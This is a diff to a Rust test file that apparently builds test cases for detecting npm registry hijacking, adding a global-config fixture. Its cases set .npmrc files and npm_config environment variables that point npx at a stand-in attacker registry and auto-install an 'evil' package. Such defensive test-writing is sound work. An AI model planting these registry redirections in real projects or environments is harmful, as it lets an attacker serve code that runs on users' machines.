@@ -3,6 +3,8 @@
 use super::super::line::{Line, line};
 
 const ATTACKER: &str = "registry=https://attacker.registry.example/\n";
+/// A file that takes the place of the recorder's own global one.
+const GLOBAL: &str = "registry=https://attacker.registry.example/\nupdate-notifier=false\n";
 const MAIN: &str = "registry=https://registry.example/\n";
 
 /// With a project that has a manifest, so that its settings are read.
@@ -84,7 +86,7 @@ fn files() -> Vec<Line> {
         line("option-userconfig-hides", "npx -y --userconfig={project}/other evil")
             .file("{home}/.npmrc", ATTACKER)
             .file("other", ""),
-        line("option-globalconfig", "npx -y --globalconfig={project}/other evil").file("other", ATTACKER),
+        line("option-globalconfig", "npx -y --globalconfig={project}/other evil").file("other", GLOBAL),
     ]
 }
 
@@ -100,9 +102,7 @@ fn environment() -> Vec<Line> {
         line("env-scope", "npx -y @s/srv").env("npm_config_@s:registry", "https://attacker.registry.example/"),
         line("env-userconfig", "npx -y evil").env("NPM_CONFIG_USERCONFIG", "{project}/other").file("other", ATTACKER),
         line("env-home", "npx -y evil").env("HOME", "{project}").file(".npmrc", ATTACKER),
-        line("env-globalconfig", "npx -y evil")
-            .env("npm_config_globalconfig", "{project}/other")
-            .file("other", ATTACKER),
+        line("env-globalconfig", "npx -y evil").env("npm_config_globalconfig", "{project}/other").file("other", GLOBAL),
         line("env-tag", "npx -y evil").env("npm_config_tag", "next"),
         line("env-unknown", "npx -y evil").env("npm_config_foo", "good"),
         line("env-dash", "npx -y evil").env("npm_config__registry", "https://attacker.registry.example/"),
